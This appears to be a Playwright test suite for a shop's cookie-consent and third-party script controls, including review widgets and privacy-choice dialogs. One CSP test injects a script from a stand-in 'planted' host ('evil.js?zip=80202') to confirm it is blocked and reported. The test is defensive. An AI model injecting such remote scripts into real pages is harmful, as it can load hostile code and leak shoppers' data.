import {randomUUID} from 'node:crypto';
import type {FrameLocator, Page} from '@playwright/test';
import {SEED_PASSWORD} from '~sandbox/world/customers';
import {holdRequests} from './support/held-requests';
import {createCustomer} from './support/identity-form';
import {PRODUCTS} from './support/journey';
import {postLogin} from './support/log-in';
import {expect, SHARED_BY_PAGES, test} from './support/test';
import {
  ALL_CONSENT,
  allowedParties,
  choose,
  expectAnswered,
  NO_CONSENT,
  watchEvents,
  watchThirdParties,
  type ChosenConsent,
} from './support/third-parties';

/* Third-party scripts don't wait for pictures. */
const SETTLE_MS = 250;

/* One page of each kind for which the registry lists other third parties, and one without a kind. */
const PRODUCT = {path: PRODUCTS.dry.path, page: 'product detail'};
const PAGES = [
  {path: '/account/dashboard', page: 'My Account'},
  PRODUCT,
  {path: '/cart', page: 'cart'},
  {path: '/faq', page: null},
];

const STATES: ChosenConsent[] = [
  NO_CONSENT,
  {functional: true, advertising: false},
  {functional: false, advertising: true},
  ALL_CONSENT,
];

const dialogOf = (page: Page): FrameLocator =>
  page.getByRole('dialog', {name: 'Privacy choices'}).frameLocator('iframe');

async function openChoices(page: Page): Promise<FrameLocator> {
  /* By keyboard, because the footer moves while third parties fill the page above it. */
  await page.getByRole('contentinfo').getByRole('button', {name: 'Privacy choices'}).press('Enter');
  const dialog = dialogOf(page);
  await expect(dialog.getByRole('heading', {name: 'Privacy choices'})).toBeVisible();
  return dialog;
}

test('CONS-17 pages talk to the third parties of the registry only, with each consent', async ({
  page,
  context,
  shop,
  sandbox,
}) => {
  await postLogin(page.request, await createCustomer(sandbox));
  const seen = watchThirdParties(context, sandbox.origin);
  for (const consent of STATES) {
    /* As on a first visit: the shop stores the previous choice. */
    await context.clearCookies({name: 'consent'});
    await choose(context, shop.consumer, consent);
    /* The registry lists every third party for the product's page. */
    for (const {path, page: kind} of consent === ALL_CONSENT ? PAGES : [PRODUCT]) {
      const message = `${path} with ${JSON.stringify(consent)}`;
      await page.goto(path);
      await expectAnswered(page, consent);
      /* These pages have no errors to report, and an empty cart has no donation. */
      const idle = ['errorReporting', ...(kind === 'cart' ? ['giving'] : [])];
      const expected = allowedParties(consent, kind).filter((id) => !idle.includes(id));
      await expect.poll(seen.list, {message}).toEqual(expected);
      await page.waitForTimeout(SETTLE_MS);
      expect(seen.list(), message).toEqual(expected);
    }
  }
});

test('CONS-17 opening an order without a new document calls no other third party', async ({
  page,
  context,
  shop,
  sandbox,
}) => {
  await choose(context, shop.consumer, ALL_CONSENT);
  await postLogin(page.request, {email: 'marcus.oyelaran@example.com', password: SEED_PASSWORD});
  await page.goto('/account/orders');
  await expectAnswered(page, ALL_CONSENT);
  await page.waitForLoadState('networkidle');
  const events = watchEvents(context);
  const seen = watchThirdParties(context, sandbox.origin);
  await page
    .getByRole('main')
    .getByRole('link', {name: /^(Order )?#\d+/})
    .first()
    .click();
  await expect(page.getByRole('heading', {level: 1, name: /^Order #/})).toBeVisible();
  await expect
    .poll(() => events.map(({payload}) => payload.page_type))
    .toContain('My Order Details');
  await page.waitForTimeout(SETTLE_MS);
  expect(seen.list()).toEqual(['tagManager']);
});

test('CONS-15 Global Privacy Control declines advertising, even if the shopper agreed before', async ({
  page,
  context,
  shop,
  sandbox,
}) => {
  await context.addInitScript(() =>
    Object.defineProperty(navigator, 'globalPrivacyControl', {value: true}),
  );
  await choose(context, shop.consumer, ALL_CONSENT);
  const seen = watchThirdParties(context, sandbox.origin);
  await page.goto(PRODUCTS.dry.path);
  await expectAnswered(page, {functional: true, advertising: false});
  await expect.poll(seen.list).toEqual(['giving', 'privacyManager', 'reviews']);
  await page.waitForTimeout(SETTLE_MS);
  expect(seen.list()).toEqual(['giving', 'privacyManager', 'reviews']);
});

test('CONS-16 CONS-09 withdrawing in one tab takes effect in the other and removes what third parties left', async ({
  page,
  context,
  shop,
}) => {
  await choose(context, shop.consumer, ALL_CONSENT);
  const other = await context.newPage();
  await other.goto(shop.consumer + PRODUCTS.dry.path);
  await page.bringToFront();
  await page.goto(PRODUCTS.dry.path);
  const stateOf = (tab: Page) =>
    tab.evaluate(() => ({
      scripts: [...document.scripts]
        .flatMap(({src}) => /(gtm|klaviyo|bv)\.js/.exec(src)?.[0] ?? [])
        .sort(),
      hasDataLayer: 'dataLayer' in window,
      cookies: document.cookie
        .split('; ')
        .map((item) => item.split('=', 1)[0])
        .filter((name) => /^(_ga|__kla_id|BVBRANDID)$/.test(name ?? '')),
      storage: [localStorage, sessionStorage].flatMap((kept) =>
        Object.keys(kept).filter((key) => key.startsWith('kept_') || /^(bv_|klaviyo)/.test(key)),
      ),
    }));
  const KEPT = ['kept_by_the_shop', 'kept_by_the_shop'];
  for (const tab of [page, other]) {
    await expect
      .poll(async () => (await stateOf(tab)).scripts)
      .toEqual(['bv.js', 'gtm.js', 'klaviyo.js']);
    await expect.poll(async () => (await stateOf(tab)).hasDataLayer).toBe(true);
    await tab.evaluate(() => {
      for (const kept of [localStorage, sessionStorage]) {
        for (const key of ['bv_session', 'klaviyoPages', 'kept_by_the_shop'])
          kept.setItem(key, '1');
      }
    });
  }
  const dialog = await openChoices(page);
  await dialog.getByLabel('Advertising').uncheck();
  await dialog.getByLabel('Functional').uncheck();
  await dialog.getByRole('button', {name: 'Save choices'}).click();
  for (const tab of [page, other]) {
    await expectAnswered(tab, NO_CONSENT);
    await expect
      .poll(() => stateOf(tab))
      .toEqual({scripts: [], hasDataLayer: false, cookies: [], storage: KEPT});
    await expect(tab.getByText(/^You cannot see product reviews/)).toBeVisible();
  }
});

test('ERR-17 REV-01 REV-02 REV-05 the reviews need functional consent, which the word "here" asks for', async ({
  page,
  context,
  shop,
  sandbox,
}) => {
  await choose(context, shop.consumer, NO_CONSENT);
  const seen = watchThirdParties(context, sandbox.origin);
  await page.goto(PRODUCTS.dry.path);
  const reviews = page.getByRole('region', {name: 'Reviews', exact: true});
  await expect(
    reviews.getByText(
      'You cannot see product reviews because you have declined functional cookies. Please enable them here to access this feature.',
    ),
  ).toBeVisible();
  expect(seen.list()).toEqual(['privacyManager']);

  await reviews.getByRole('button', {name: 'here'}).click();
  const dialog = dialogOf(page);
  await dialog.getByLabel('Functional').check();
  await dialog.getByRole('button', {name: 'Save choices'}).click();
  await expect(reviews.locator('[data-bv-show=reviews][data-bv-ready=true]')).toBeVisible();
  await expect(reviews.getByText(/^You cannot see/)).toHaveCount(0);
});

test('CONS-18 ERR-26 a script from outside the registry is blocked, and the violation is reported', async ({
  page,
  context,
  shop,
  sandbox,
  problems,
}) => {
  /* Letters only, so that the scrubber leaves it. */
  const host = `planted-${randomUUID().replace(/[^a-f]/g, '')}.example`;
  problems.allow(/Content Security Policy/);
  await choose(context, shop.consumer, {functional: true, advertising: false});
  await page.goto('/faq');
  await expectAnswered(page, {functional: true, advertising: false});
  let wasRequested = false;
  await context.route(`https://${host}/**`, (route) => {
    wasRequested = true;
    return route.abort();
  });
  await page.evaluate((address) => {
    const script = document.createElement('script');
    script.src = address;
    document.head.append(script);
  }, `https://${host}/evil.js?zip=80202`);
  const reports = async () => (await sandbox.ingested()).filter(({event}) => event.includes(host));
  await expect.poll(async () => (await reports()).length).toBe(1);
  const [report] = await reports();
  expect(report?.event).toBe(`PolicyViolation: script-src-elem https://${host}`);
  expect(JSON.stringify(report)).not.toContain('80202');
  expect(wasRequested).toBe(false);
});

test('REV-03 REV-04 REV-06 shoppers sort the reviews that the configured script shows, read more of them and the questions, and write one', async ({
  page,
  context,
  shop,
  sandbox,
  expectAccessible,
}) => {
  await choose(context, shop.consumer, {functional: true, advertising: false});
  await page.goto(PRODUCTS.dry.path);
  await test.step('each widget has its type and its product', async () => {
    const widgets = page.locator('[data-bv-show][data-bv-ready=true]');
    const valuesOf = (name: string) =>
      widgets.evaluateAll(
        (elements, attribute) =>
          [...new Set(elements.map((item) => item.getAttribute(attribute)))].sort(),
        name,
      );
    await expect
      .poll(() => valuesOf('data-bv-show'))
      .toEqual(['inline_rating', 'questions', 'reviews']);
    expect(await valuesOf('data-bv-product-id')).toEqual([PRODUCTS.dry.path.split('/').at(-1)]);
    await expect(page.locator(`script[src="${sandbox.origin}/bazaarvoice/bv.js"]`)).toHaveCount(1);
  });

  const reviews = page.getByRole('region', {name: 'Reviews', exact: true});
  const list = reviews.getByRole('list', {name: 'Reviews', exact: true});
  await expect(list.getByRole('listitem')).toHaveCount(5);
  const first = list.getByRole('heading').first();
  const stars = async () => Number((await first.innerText()).match(/(\d) out of 5/)?.[1]);

  await reviews.getByLabel('Sort by').selectOption('Lowest rated');
  await expect.poll(stars).toBeLessThan(4);
  await reviews.getByLabel('Sort by').selectOption('Highest rated');
  await expect.poll(stars).toBe(5);
  await reviews.getByRole('button', {name: 'Show more reviews'}).click();
  await expect(list.getByRole('listitem')).toHaveCount(10);
  await expect(list.getByRole('heading').nth(5)).toBeFocused();
  await expect(reviews.getByText(/^Showing 10 of /)).toBeVisible();

  const question = reviews.locator('details').first();
  await question.locator('summary').click();
  await expect(question.getByText('(Marlowe)')).toBeVisible();

  await reviews.getByRole('button', {name: 'Write a review'}).click();
  const form = reviews.getByRole('form', {name: 'Write a review'});
  await expect(form.getByLabel('Rating')).toBeFocused();
  await expectAccessible(page, SHARED_BY_PAGES);
  await form.getByLabel('Rating').selectOption('4 stars');
  await form.getByLabel('Title').fill('Good food');
  await form.getByLabel('Your review').fill('Both of our cats like it a lot.');
  await form.getByLabel('Nickname').fill('Robin');
  await form.getByRole('button', {name: 'Send review'}).click();
  await expect(reviews.getByText('Thank you. Your review appears once')).toBeFocused();
});

test('ERR-61 a review that wasn’t received says why and stays; a double press sends it once', async ({
  page,
  context,
  shop,
  problems,
}) => {
  problems.allow(/400/);
  await choose(context, shop.consumer, {functional: true, advertising: false});
  await page.goto(PRODUCTS.dry.path);
  const reviews = page.getByRole('region', {name: 'Reviews', exact: true});
  await reviews.getByRole('button', {name: 'Write a review'}).click();
  const form = reviews.getByRole('form', {name: 'Write a review'});
  await form.getByLabel('Rating').selectOption('4 stars');
  await form.getByLabel('Title').fill('  ');
  await form.getByLabel('Your review').fill('Both of our cats like it a lot.');
  await form.getByLabel('Nickname').fill('Robin');
  const send = form.getByRole('button', {name: 'Send review'});
  await send.click();
  await expect(form.getByText('Your review wasn’t sent. It needs a title')).toBeFocused();

  await form.getByLabel('Title').fill('Good food');
  const address = '**/submitreview.json';
  await page.route(address, (route) =>
    route.fulfill({body: '{"HasErrors":fal', headers: {'Access-Control-Allow-Origin': '*'}}),
  );
  await send.click();
  await expect(form.getByText('Your review wasn’t sent. Try again in a moment.')).toBeFocused();
  await page.unroute(address);

  const sent = await holdRequests(page, address, 'POST');
  await expect(form.getByLabel('Your review')).toHaveValue('Both of our cats like it a lot.');
  await send.dblclick();
  await sent.release();
  await expect(reviews.getByText('Thank you. Your review appears once')).toBeFocused();
  expect(sent.count()).toBe(1);
});
